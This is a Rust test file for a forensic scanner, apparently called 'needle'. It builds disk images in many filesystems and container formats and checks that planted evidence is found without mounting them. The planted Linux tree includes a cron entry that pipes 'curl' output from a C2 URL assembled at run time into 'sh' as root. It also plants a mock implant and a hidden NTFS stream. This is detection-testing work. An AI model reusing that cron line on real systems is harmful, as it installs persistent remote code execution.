//! `needle scan IMAGE` and `needle image ls`: disk images built at test time (GPT disk with a
//! Windows FAT volume, a Linux ext4 root, an LZNT1-compressed NTFS volume and a BitLocker
//! look-alike; the same Windows tree on exFAT), in every container format, scanned without
//! mounting, and Debian's exFAT sample image. The findings must be those of scanning the same trees
//! as directories, named as on the host.

mod util;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use serde_json::Value;
use util::exfat::exfat_image;
use util::images::{self, Container, Partition};
use util::samples::{self, PeSpec};
use util::{Host, Run, installer_pe, md5_hex, needle, sha256_hex};

/// The trees and the disk built from them.
struct Evidence {
    work: Host,
    windows: PathBuf,
    linux: PathBuf,
    raw: PathBuf,
    iocs: PathBuf,
    installer: Vec<u8>,
    /// Content of the NTFS volume's compressible file.
    big_text: Vec<u8>,
}

/// The tools `evidence()` builds its disk with.
const EVIDENCE_TOOLS: [&str; 7] = [
    "e2fsck",
    "mcopy",
    "mkfs.ext4",
    "mkfs.fat",
    "mkntfs",
    "ntfscp",
    "sgdisk",
];

/// Whether the evidence disk can be built here, and the `more` tools a test needs besides
/// (without them the test is skipped, or fails under CI).
fn evidence_tools_and(more: &[&str]) -> bool {
    let tools: Vec<&str> = EVIDENCE_TOOLS.iter().chain(more).copied().collect();
    util::test_tools::available(&tools)
}

fn evidence() -> Evidence {
    let work = Host::new();
    let installer = installer_pe();
    let hash_sample = b"synthetic sample flagged by MD5 inside an image".to_vec();
    // Built at run time so this test's source and binary never carry the indicator.
    let c2 = ["forum.iron-", "maiden.ru/core/cache/index.php"].concat();

    work.write("windows/ProgramData/ntnser.bin", &installer);
    work.write(
        "windows/Windows/System32/bcdbootinfo.tlp",
        b"2020-05-21 10:00 netsvcs:Nwsapagent",
    );
    work.write(
        "windows/Windows/System32/kernel32.dll",
        &samples::build_pe(&PeSpec {
            dll: true,
            ..PeSpec::default()
        }),
    );
    work.write("windows/Users/alice/Downloads/a.tmp", &hash_sample);
    work.write("windows/Users/alice/notes.txt", b"nothing to see");

    work.write("linux/etc/hostname", b"host42\n");
    work.write(
        "linux/etc/cron.d/update",
        format!("*/5 * * * * root curl -s https://{c2} | sh\n").as_bytes(),
    );
    work.write("linux/usr/bin/tool", b"#!/bin/sh\necho benign\n");
    work.write("linux/var/tmp/.cache/a.tmp", &hash_sample);

    let iocs = work.write(
        "iocs/test-hash-iocs.txt",
        format!("{};MD5 test sample\n", md5_hex(&hash_sample)).as_bytes(),
    );

    let fat = work.path("fat.img");
    images::fat_image(&work.path("windows"), &fat, 24);
    let ext4 = work.path("ext4.img");
    images::ext4_image(&work.path("linux"), &ext4, 16);
    let big_text: Vec<u8> = (0..6000)
        .flat_map(|i| format!("line {i} of a compressible log file\n").into_bytes())
        .collect();
    let ntfs = work.path("ntfs.img");
    images::ntfs_image(
        work.root(),
        &ntfs,
        16,
        true,
        &[
            ("implant.exe", &installer),
            ("server.log", &big_text),
            ("readme.txt", b"read me"),
        ],
        &[("readme.txt", "payload", &installer)],
    );
    let bitlocker = work.path("bitlocker.img");
    let mut locked = vec![0u8; 1 << 20];
    locked[3..11].copy_from_slice(b"-FVE-FS-");
    std::fs::write(&bitlocker, &locked).expect("write BitLocker look-alike");

    let raw = work.path("disk.raw");
    images::gpt_disk(
        &raw,
        &[
            Partition {
                content: &fat,
                type_code: "0700",
                name: "Windows",
            },
            Partition {
                content: &ext4,
                type_code: "8300",
                name: "root",
            },
            Partition {
                content: &ntfs,
                type_code: "0700",
                name: "Data",
            },
            Partition {
                content: &bitlocker,
                type_code: "0700",
                name: "Locked",
            },
        ],
    );
    Evidence {
        windows: work.path("windows"),
        linux: work.path("linux"),
        work,
        raw,
        iocs,
        installer,
        big_text,
    }
}

fn scan(evidence: &Evidence, targets: &[&Path], extra: &[&str]) -> Run {
    let mut args: Vec<String> = ["scan", "--format", "jsonl", "-q", "--iocs"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    args.push(evidence.iocs.to_string_lossy().into_owned());
    args.extend(extra.iter().map(|s| s.to_string()));
    args.extend(targets.iter().map(|p| p.to_string_lossy().into_owned()));
    needle(args)
}

/// (path, sha256, sorted reason ids) of every finding.
fn finding_set(findings: &[Value]) -> BTreeSet<(String, String, Vec<String>)> {
    findings
        .iter()
        .map(|finding| {
            let mut ids: Vec<String> = finding["reasons"]
                .as_array()
                .expect("reasons")
                .iter()
                .map(|r| r["id"].as_str().expect("id").to_string())
                .collect();
            ids.sort();
            (
                finding["path"].as_str().expect("path").to_string(),
                finding["sha256"].as_str().expect("sha256").to_string(),
                ids,
            )
        })
        .collect()
}

/// The findings of a directory scan of `tree`, with paths as the image names them.
fn tree_findings(
    evidence: &Evidence,
    tree: &Path,
    host_path: impl Fn(&str) -> String,
) -> BTreeSet<(String, String, Vec<String>)> {
    let run = scan(evidence, &[tree], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let prefix = format!("{}/", tree.display());
    finding_set(&run.of_type("finding"))
        .into_iter()
        .map(|(path, sha256, ids)| {
            let relative = path.strip_prefix(&prefix).expect("inside the tree");
            (host_path(relative), sha256, ids)
        })
        .collect()
}

fn findings_in_partition(run: &Run, partition: u64) -> Vec<Value> {
    run.of_type("finding")
        .into_iter()
        .filter(|f| f["image"]["partition"] == partition)
        .collect()
}

#[test]
fn an_image_gives_the_findings_of_its_trees_named_as_on_the_host() {
    if !evidence_tools_and(&[]) {
        return;
    }
    let evidence = evidence();
    let run = scan(&evidence, &[&evidence.raw], &[]);
    assert_eq!(run.code, 1, "{}\n{}", run.stderr, run.stdout);
    // The image summary, image origins and hardlink names read back into the report model.
    util::assert_reads_back(&run.stdout);

    let windows = tree_findings(&evidence, &evidence.windows, |relative| {
        format!(r"C:\{}", relative.replace('/', "\\"))
    });
    assert!(
        windows
            .iter()
            .any(|(p, _, _)| p == r"C:\ProgramData\ntnser.bin")
    );
    assert!(
        windows
            .iter()
            .any(|(p, _, _)| p == r"C:\Windows\System32\bcdbootinfo.tlp")
    );
    assert_eq!(finding_set(&findings_in_partition(&run, 1)), windows);

    let linux = tree_findings(&evidence, &evidence.linux, |relative| {
        format!("/{relative}")
    });
    assert!(linux.iter().any(|(p, _, _)| p == "/etc/cron.d/update"));
    assert_eq!(finding_set(&findings_in_partition(&run, 2)), linux);

    let finding = run.finding(r"C:\ProgramData\ntnser.bin");
    assert_eq!(finding["image"]["filesystem"], "fat16");
    assert_eq!(
        finding["image"]["image"],
        evidence.raw.to_string_lossy().as_ref()
    );
    assert_eq!(
        run.finding("/etc/cron.d/update")["image"]["filesystem"],
        "ext4"
    );

    let summary = run.summary();
    assert_eq!(summary["verdict"], "compromised");
    assert_eq!(summary["host"], "disk.raw");
    assert_eq!(summary["os"]["family"], "windows");
    let image = &summary["image"];
    assert_eq!(image["container"], "raw");
    assert_eq!(image["partition_table"], "gpt");
    let volumes = image["volumes"].as_array().expect("volumes");
    let described: Vec<(u64, &str, &str)> = volumes
        .iter()
        .map(|v| {
            (
                v["partition"].as_u64().expect("partition"),
                v["content"].as_str().expect("content"),
                v["mount"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        described,
        [
            (1, "fat16", "C:"),
            (2, "ext4", "/"),
            (3, "ntfs", "D:"),
            (4, "bitlocker", "")
        ]
    );
    for volume in &volumes[..3] {
        assert_eq!(volume["status"], "scanned", "{volume}");
        assert!(
            volume["files_read"].as_u64().expect("count") >= 3,
            "{volume}"
        );
    }
    assert_eq!(volumes[0]["files_read"], 5);
    assert_eq!(
        summary["files_scanned"],
        volumes
            .iter()
            .map(|v| v["files_read"].as_u64().expect("count"))
            .sum::<u64>()
    );
}

/// The planted Linux tree on an XFS root (the CentOS bridge router's default filesystem), alone
/// on a GPT disk: the findings of the tree scanned as a directory, named as on the host, and
/// `image ls` names the filesystem.
#[test]
fn an_xfs_root_gives_the_findings_of_its_tree_named_as_on_the_host() {
    a_linux_root_gives_the_findings_of_its_tree("mkfs.xfs", "xfs", images::xfs_image, 16);
}

/// The same on a btrfs root (openSUSE's and Fedora's default), made by mkfs.btrfs --rootdir.
#[test]
fn a_btrfs_root_gives_the_findings_of_its_tree_named_as_on_the_host() {
    // mkfs.btrfs makes 114 MiB at least (DUP metadata).
    a_linux_root_gives_the_findings_of_its_tree("mkfs.btrfs", "btrfs", images::btrfs_image, 128);
}

/// The planted Linux tree on a `filesystem` root of `size_mib` made by `make_image` (with `tool`),
/// alone on a GPT disk: the findings of the tree scanned as a directory, named as on the host,
/// and `image ls` names the filesystem.
fn a_linux_root_gives_the_findings_of_its_tree(
    tool: &str,
    filesystem: &str,
    make_image: fn(&Path, &Path, u64),
    size_mib: u64,
) {
    if !evidence_tools_and(&[tool]) {
        return;
    }
    let evidence = evidence();
    let root = evidence.work.path("root.img");
    make_image(&evidence.linux, &root, size_mib);
    let raw = evidence.work.path("bridge.raw");
    images::gpt_disk(
        &raw,
        &[Partition {
            content: &root,
            type_code: "8300",
            name: "root",
        }],
    );
    let run = scan(&evidence, &[&raw], &[]);
    assert_eq!(run.code, 1, "{}\n{}", run.stderr, run.stdout);
    util::assert_reads_back(&run.stdout);
    let linux = tree_findings(&evidence, &evidence.linux, |relative| {
        format!("/{relative}")
    });
    assert!(linux.iter().any(|(p, _, _)| p == "/etc/cron.d/update"));
    assert!(linux.iter().any(|(p, _, _)| p == "/var/tmp/.cache/a.tmp"));
    assert_eq!(finding_set(&findings_in_partition(&run, 1)), linux);
    assert_eq!(
        run.finding("/etc/cron.d/update")["image"]["filesystem"],
        filesystem
    );
    let summary = run.summary();
    assert_eq!(summary["errors"], 0, "{summary}");
    let volume = &summary["image"]["volumes"][0];
    assert_eq!(volume["content"], filesystem, "{volume}");
    assert_eq!(volume["mount"], "/", "{volume}");
    assert_eq!(volume["status"], "scanned", "{volume}");
    assert_eq!(volume["files_read"], 4, "{volume}");

    let layout = image_ls_json(&raw);
    let volume = &layout["volumes"][0];
    assert_eq!(volume["content"], filesystem, "{layout}");
    assert_eq!(volume["label"], "linuxroot", "{layout}");
    assert_eq!(volume["name"], "root", "{layout}");
}

#[test]
fn compressed_ntfs_files_and_alternate_streams_are_read_and_flagged() {
    if !evidence_tools_and(&[]) {
        return;
    }
    let evidence = evidence();
    let run = scan(&evidence, &[&evidence.raw], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let implant = run.finding(r"D:\implant.exe");
    assert_eq!(implant["sha256"], sha256_hex(&evidence.installer));
    assert_eq!(implant["image"]["partition"], 3);
    assert_eq!(implant["image"]["filesystem"], "ntfs");
    let stream = run.finding(r"D:\readme.txt:payload");
    assert_eq!(stream["sha256"], sha256_hex(&evidence.installer));
    assert_eq!(
        findings_in_partition(&run, 3).len(),
        2,
        "only the implant and the stream"
    );
    // The compressed log was read whole and right: listed with --verbose? No: its digest is
    // only reported for findings, so check the byte count of the volume instead.
    let volumes = run.summary()["image"]["volumes"].clone();
    let ntfs = &volumes[2];
    let expected =
        (2 * evidence.installer.len() + evidence.big_text.len() + b"read me".len()) as u64;
    assert_eq!(ntfs["bytes_read"], expected, "{ntfs}");
    assert_eq!(ntfs["files_read"], 4, "{ntfs}");
}

#[test]
fn encrypted_volumes_are_reported_as_not_scanned() {
    if !evidence_tools_and(&[]) {
        return;
    }
    let evidence = evidence();
    let run = scan(&evidence, &[&evidence.raw], &[]);
    let skipped: Vec<Value> = run
        .of_type("skipped")
        .into_iter()
        .filter(|s| s["reason"] == "volume_not_scanned")
        .collect();
    assert_eq!(skipped.len(), 1, "{}", run.stdout);
    assert!(
        skipped[0]["path"]
            .as_str()
            .expect("path")
            .ends_with("disk.raw#p4"),
        "{}",
        skipped[0]
    );
    assert!(
        skipped[0]["detail"]
            .as_str()
            .expect("detail")
            .contains("BitLocker"),
        "{}",
        skipped[0]
    );
    let summary = run.summary();
    assert_eq!(summary["skipped"]["volume_not_scanned"], 1);
    let status = summary["image"]["volumes"][3]["status"]
        .as_str()
        .expect("status")
        .to_string();
    assert!(status.starts_with("not scanned: BitLocker"), "{status}");
}

#[test]
fn every_container_format_gives_the_same_findings_and_disk_hash() {
    if !evidence_tools_and(&["ewfacquire", "qemu-img"]) {
        return;
    }
    let evidence = evidence();
    let raw_run = scan(&evidence, &[&evidence.raw], &["--hash-image"]);
    assert_eq!(raw_run.code, 1, "{}", raw_run.stderr);
    let expected = finding_set(&raw_run.of_type("finding"));
    let raw_bytes = std::fs::read(&evidence.raw).expect("raw disk");
    let disk_sha256 = sha256_hex(&raw_bytes);
    assert_eq!(raw_run.summary()["image"]["media_sha256"], disk_sha256);

    for container in Container::ALL {
        let image = images::convert(&evidence.raw, container);
        let run = scan(&evidence, &[&image], &["--hash-image"]);
        assert_eq!(run.code, 1, "{container:?}: {}", run.stderr);
        assert_eq!(
            finding_set(&run.of_type("finding")),
            expected,
            "{container:?}"
        );
        let summary = run.summary();
        assert_eq!(
            summary["image"]["media_sha256"], disk_sha256,
            "{container:?}"
        );
        assert_eq!(summary["verdict"], "compromised", "{container:?}");
        assert_eq!(summary["errors"], 0, "{container:?}: {}", run.stdout);
    }
}

/// Sectors an acquisition could not read are zeros in the image: the E01 lists them, and so
/// does the summary, since files there are incomplete. The rest scans as it would.
#[test]
fn an_e01_s_acquisition_errors_are_listed_as_problems_of_the_image() {
    if !evidence_tools_and(&["ewfacquire", "ewfinfo", "qemu-img"]) {
        return;
    }
    let evidence = evidence();
    let e01 = images::convert(&evidence.raw, Container::E01);
    // One range falls in the content of C:\Windows\System32\bcdbootinfo.tlp (found in the raw
    // disk by its bytes), the others in no file.
    let disk = std::fs::read(&evidence.raw).expect("read the raw disk");
    let content = b"2020-05-21 10:00 netsvcs:Nwsapagent";
    let mut at = disk
        .windows(content.len())
        .enumerate()
        .filter(|(_, w)| w == content);
    let (offset, _) = at.next().expect("the file's content is on the disk");
    assert!(
        at.next().is_none(),
        "the file's content is on the disk once"
    );
    let sector = u32::try_from(offset / 512).expect("a small disk");
    let damaged = images::with_acquisition_errors(&e01, &[(2048, 64), (sector, 1), (100_000, 8)]);
    let info = util::test_tools::command("ewfinfo")
        .arg(&damaged)
        .output()
        .expect("ewfinfo");
    let info = String::from_utf8_lossy(&info.stdout);
    assert!(
        info.contains("at sector(s): 2048 - 2111 number: 64"),
        "{info}"
    );

    let clean_run = scan(&evidence, &[&e01], &[]);
    let run = scan(&evidence, &[&damaged], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        finding_set(&run.of_type("finding")),
        finding_set(&clean_run.of_type("finding"))
    );
    let summary = run.summary();
    let problems = summary["image"]["problems"].as_array().expect("problems");
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(
        problems[0],
        format!(
            "the acquisition could not read 3 range(s) of sectors, 73 sectors in all \
             (2048-2111, {sector}-{sector}, 100000-100007): the image holds zeros there, so files \
             on them are incomplete"
        )
    );
    assert_eq!(clean_run.summary()["image"]["problems"], Value::Null);
    // The file read from the unacquired sector is an error of the scan, the others are not.
    let errors = run.of_type("error");
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(errors[0]["path"], r"C:\Windows\System32\bcdbootinfo.tlp");
    assert!(
        errors[0]["message"]
            .as_str()
            .is_some_and(|m| m.starts_with(&format!(
                "reading it returned {} bytes of sectors the acquisition could not read",
                content.len()
            ))),
        "{errors:#?}"
    );
    assert_eq!(summary["errors"], 1);
    assert_eq!(clean_run.summary()["errors"], 0);
}

#[test]
fn several_images_are_each_their_own_host() {
    if !evidence_tools_and(&["ewfacquire", "qemu-img"]) {
        return;
    }
    let evidence = evidence();
    let clean = evidence.work.path("clean");
    std::fs::create_dir_all(&clean).expect("mkdir");
    std::fs::write(clean.join("readme.txt"), b"nothing here").expect("write");
    let clean_image = evidence.work.path("clean.ext4");
    images::ext4_image(&clean, &clean_image, 4);
    let qcow2 = images::convert(&evidence.raw, Container::Qcow2);

    let run = scan(&evidence, &[&clean_image, &qcow2], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let summaries = run.of_type("summary");
    assert_eq!(summaries.len(), 2, "{}", run.stdout);
    assert_eq!(summaries[0]["host"], "clean.ext4");
    assert_eq!(summaries[0]["verdict"], "clean");
    assert_eq!(summaries[0]["image"]["partition_table"], "none");
    assert_eq!(summaries[0]["image"]["volumes"][0]["partition"], 0);
    assert_eq!(summaries[0]["files_scanned"], 1);
    assert_eq!(summaries[1]["host"], "qcow2-evidence.bin");
    assert_eq!(summaries[1]["image"]["container"], "qcow2");
    assert_eq!(summaries[1]["verdict"], "compromised");
}

#[test]
fn image_ls_lists_container_partitions_and_filesystems() {
    if !evidence_tools_and(&["ewfacquire", "qemu-img"]) {
        return;
    }
    let evidence = evidence();
    let vhdx = images::convert(&evidence.raw, Container::Vhdx);
    let layout = image_ls_json(&vhdx);
    assert_eq!(layout["container"], "vhdx");
    assert_eq!(layout["partition_table"], "gpt");
    let volumes = layout["volumes"].as_array().expect("volumes");
    let contents: Vec<&str> = volumes
        .iter()
        .map(|v| v["content"].as_str().expect("content"))
        .collect();
    assert_eq!(contents, ["fat16", "ext4", "ntfs", "bitlocker"]);
    assert_eq!(volumes[0]["name"], "Windows");
    assert_eq!(volumes[1]["label"], "linuxroot");
    assert_eq!(volumes[2]["label"], "ntfsdata");
    assert_eq!(volumes[0]["start"], 1 << 20);

    let text = needle(["image", "ls", vhdx.to_str().expect("utf-8")]);
    assert_eq!(text.code, 0, "{}", text.stderr);
    for expected in ["vhdx", "partition table gpt", "ext4", "as C:", "BitLocker"] {
        assert!(
            text.stdout.contains(expected),
            "{expected}: {}",
            text.stdout
        );
    }

    let not_an_image = evidence.work.write("notes.txt", b"just text");
    let run = needle(["image", "ls", not_an_image.to_str().expect("utf-8")]);
    assert_eq!(run.code, 2, "{}", run.stdout);
    assert!(
        run.stderr.contains("no partition table or filesystem"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_damaged_image_reports_errors_and_scans_what_it_can() {
    if !evidence_tools_and(&["ewfacquire", "qemu-img"]) {
        return;
    }
    let evidence = evidence();
    // Cut the disk inside the ext4 volume: the FAT volume before it is whole.
    let bytes = std::fs::read(&evidence.raw).expect("raw");
    let ext4_start = 25 << 20;
    let truncated = evidence
        .work
        .write("truncated.raw", &bytes[..ext4_start + (2 << 20)]);
    let run = scan(&evidence, &[&truncated], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.has_finding(r"C:\ProgramData\ntnser.bin"),
        "{}",
        run.stdout
    );
    let summary = run.summary();
    assert!(
        summary["image"]["problems"]
            .as_array()
            .is_some_and(|p| !p.is_empty())
            || summary["errors"].as_u64().unwrap_or(0) > 0,
        "{summary}"
    );

    // A container cut in half: errors, never a panic or a hang.
    let qcow2 = images::convert(&evidence.raw, Container::Qcow2);
    let bytes = std::fs::read(&qcow2).expect("qcow2");
    let half = evidence.work.write("half.qcow2", &bytes[..bytes.len() / 2]);
    let run = scan(&evidence, &[&half], &[]);
    assert!(matches!(run.code, 1 | 2), "{}\n{}", run.code, run.stderr);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    assert_eq!(run.of_type("summary").len(), 1);

    // Not an image at all, forced with --image: an error naming the file, exit 2.
    let text = evidence.work.write("notes.txt", b"just text, no disk here");
    let run = scan(&evidence, &[&text], &["--image"]);
    assert_eq!(run.code, 2, "{}", run.stdout);
    let errors = run.of_type("error");
    assert!(
        errors.iter().any(|e| e["message"]
            .as_str()
            .is_some_and(|m| m.contains("no partition table or filesystem"))),
        "{}",
        run.stdout
    );
}

#[test]
fn images_are_recognised_by_content_and_never_modified() {
    if !evidence_tools_and(&[]) {
        return;
    }
    let evidence = evidence();
    let before = sha256_hex(&std::fs::read(&evidence.raw).expect("raw"));
    // A raw disk named like a text file is still recognised as a disk.
    let renamed = evidence.work.path("notes.txt");
    std::fs::copy(&evidence.raw, &renamed).expect("copy");
    let run = scan(&evidence, &[&renamed], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(run.summary()["image"]["partition_table"], "gpt");
    assert_eq!(
        sha256_hex(&std::fs::read(&renamed).expect("renamed")),
        before
    );
    assert_eq!(
        sha256_hex(&std::fs::read(&evidence.raw).expect("raw")),
        before
    );
}

#[test]
fn the_scan_cache_serves_the_live_host_and_an_image_scan_leaves_it_intact() {
    if !evidence_tools_and(&[]) {
        return;
    }
    let evidence = evidence();
    let cache = evidence.work.path("scan.cache");
    let cache = cache.to_str().expect("utf-8");
    let targets = [evidence.linux.as_path(), evidence.raw.as_path()];
    let first = scan(&evidence, &targets, &["--cache", cache]);
    let second = scan(&evidence, &targets, &["--cache", cache]);
    for run in [&first, &second] {
        assert_eq!(run.code, 1, "{}", run.stderr);
        assert_eq!(run.of_type("summary").len(), 2, "{}", run.stdout);
    }
    let (live, image) = (&second.of_type("summary")[0], &second.of_type("summary")[1]);
    assert_eq!(live["cached"], live["files_scanned"], "{live}");
    assert_eq!(live["cached"], 4);
    assert_eq!(image["cached"], 0, "image files are always read");
    assert_eq!(
        image["files_scanned"],
        first.of_type("summary")[1]["files_scanned"]
    );
    assert_eq!(
        finding_set(&second.of_type("finding")),
        finding_set(&first.of_type("finding"))
    );
}

/// Debian's forensics-samples images, decompressed into `work`.
fn debian_sample(work: &Host, name: &str) -> PathBuf {
    let image = work.path(&format!("fs.{name}"));
    let compressed =
        std::fs::read(format!("/usr/share/forensics-samples/fs.{name}.xz")).expect("sample image");
    let packed = work.write(format!("fs.{name}.xz"), &compressed);
    util::test_tools::run("xz", &["-d", packed.to_str().expect("utf-8")], &[0]);
    image
}

#[test]
fn the_planted_tree_on_exfat_gives_the_findings_of_the_tree() {
    if !evidence_tools_and(&[]) {
        return;
    }
    let evidence = evidence();
    let exfat = evidence.work.path("windows.exfat");
    exfat_image(&evidence.windows, &exfat, &Default::default());
    let raw = evidence.work.path("usb.raw");
    images::gpt_disk(
        &raw,
        &[Partition {
            content: &exfat,
            type_code: "0700",
            name: "USB",
        }],
    );
    let run = scan(&evidence, &[&raw], &[]);
    assert_eq!(run.code, 1, "{}\n{}", run.stderr, run.stdout);
    let windows = tree_findings(&evidence, &evidence.windows, |relative| {
        format!(r"C:\{}", relative.replace('/', "\\"))
    });
    assert_eq!(finding_set(&run.of_type("finding")), windows);
    assert_eq!(
        run.finding(r"C:\ProgramData\ntnser.bin")["image"]["filesystem"],
        "exfat"
    );
    let summary = run.summary();
    assert_eq!(summary["errors"], 0, "{}", run.stdout);
    let volume = &summary["image"]["volumes"][0];
    assert_eq!(volume["content"], "exfat");
    assert_eq!(volume["label"], "NEEDLEXFAT");
    assert_eq!(volume["mount"], "C:");
    assert_eq!(volume["files_read"], 5);
}

#[test]
fn debian_exfat_sample_is_listed_and_every_file_read() {
    debian_sample_is_listed_and_every_file_read("exfat", "D:", |path| {
        format!("D:{}", path.replace('/', "\\"))
    });
}

/// TSK cannot read btrfs: the sample's files are compared with the originals only.
#[test]
fn debian_btrfs_sample_is_listed_and_every_file_read() {
    debian_sample_is_listed_and_every_file_read("btrfs", "/", str::to_string);
}

/// Debian's `fs.NAME` sample (an MBR disk of one partition) in `image ls` as NAME mounted at
/// `mount`, and scanned: every allocated file read with its original content, named on the
/// host as `host_path` gives it.
fn debian_sample_is_listed_and_every_file_read(
    name: &str,
    mount: &str,
    host_path: fn(&str) -> String,
) {
    if !util::test_tools::available(&[
        &format!("/usr/share/forensics-samples/fs.{name}.xz"),
        "/usr/share/forensics-samples/original-files/text1/a-text.pdf",
        "xz",
    ]) {
        return;
    }
    let work = Host::new();
    let image = debian_sample(&work, name);
    let layout = image_ls_json(&image);
    assert_eq!(layout["partition_table"], "mbr");
    assert_eq!(layout["volumes"][0]["content"], name);
    assert_eq!(layout["volumes"][0]["mount"], mount);
    assert_eq!(layout["volumes"][0]["status"], "readable");

    // Every original file's SHA-256 as a hash IOC: each file needle reads with the right bytes
    // becomes a finding carrying its digest, so the findings must be exactly the originals.
    let originals = debian_sample_originals();
    let feed: String = originals
        .values()
        .map(|sha256| format!("{sha256};forensics-samples original\n"))
        .collect();
    let iocs = work.write("iocs/sample-hash-iocs.txt", feed.as_bytes());
    let run = needle([
        "scan",
        "--format",
        "jsonl",
        "-q",
        "--iocs",
        iocs.to_str().expect("utf-8"),
        image.to_str().expect("utf-8"),
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let summary = run.summary();
    assert_eq!(summary["errors"], 0, "{}", run.stdout);
    assert_eq!(summary["image"]["volumes"][0]["files_read"], 18);
    let read: BTreeSet<(String, String)> = run
        .of_type("finding")
        .iter()
        .map(|finding| {
            assert_eq!(finding["image"]["filesystem"], name);
            (
                finding["path"].as_str().expect("path").to_string(),
                finding["sha256"].as_str().expect("sha256").to_string(),
            )
        })
        .collect();
    let expected: BTreeSet<(String, String)> = originals
        .into_iter()
        .map(|(path, sha256)| (host_path(&path), sha256))
        .collect();
    assert_eq!(expected.len(), 18);
    assert_eq!(read, expected);
}

/// The files Debian's sample images were made from (forensics-samples-files), as
/// `/dir/name` -> SHA-256. The directories whose names end in 2 were deleted from the images
/// after the copy. Two PNG files were rewritten when Debian built the package
/// (strip-nondeterminism drops their timestamp chunks); the images hold them as they were, with
/// these digests (The Sleuth Kit's `icat` gives the same: the exFAT module tests check it).
fn debian_sample_originals() -> BTreeMap<String, String> {
    let root = Path::new("/usr/share/forensics-samples/original-files");
    let mut files = BTreeMap::new();
    for dir in std::fs::read_dir(root).expect("original files") {
        let dir = dir.expect("entry").path();
        let name = dir
            .file_name()
            .expect("name")
            .to_str()
            .expect("utf-8")
            .to_string();
        if name.ends_with('2') {
            continue;
        }
        for file in std::fs::read_dir(&dir).expect("original dir") {
            let file = file.expect("entry").path();
            let content = std::fs::read(&file).expect("original file");
            let file_name = file.file_name().expect("name").to_str().expect("utf-8");
            files.insert(format!("/{name}/{file_name}"), sha256_hex(&content));
        }
    }
    for (path, sha256) in [
        (
            "/pic1/debian.png",
            "a331c17e8e1c28e734937353b633708b8e0c0816ee5ff1926e89cff957a68f08",
        ),
        (
            "/pic1/debian_logo.png",
            "bdfc92b4d89e37681003a7cc34bd7a0b3fc2aab780fe523f05b355bf25abb335",
        ),
    ] {
        files.insert(path.to_string(), sha256.to_string());
    }
    files
}

/// `needle image ls --format json IMAGE`, which must succeed, as one JSON object.
fn image_ls_json(image: &Path) -> Value {
    let run = needle([
        "image",
        "ls",
        "--format",
        "json",
        image.to_str().expect("utf-8"),
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    serde_json::from_str(run.stdout.trim()).expect("one JSON object")
}
